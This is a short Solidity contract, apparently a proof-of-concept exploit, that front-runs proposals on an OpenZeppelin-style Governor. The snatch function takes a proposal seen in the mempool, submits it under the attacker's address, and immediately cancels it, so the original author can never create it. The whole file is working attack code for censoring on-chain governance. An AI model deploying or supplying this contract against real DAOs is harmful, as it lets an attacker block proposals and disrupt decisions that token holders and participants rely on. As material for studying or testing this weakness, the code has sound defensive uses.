// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IGovernor} from "@openzeppelin/contracts/governance/IGovernor.sol";

/// @notice Makes a proposal that it saw in the mempool before its author does, and cancels it at once, so that it can never be made again.
contract FrontRunner {
    function snatch(
        IGovernor governor,
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata calldatas,
        string calldata description
    ) external {
        governor.propose(targets, values, calldatas, description);
        governor.cancel(targets, values, calldatas, keccak256(bytes(description)));
    }
}
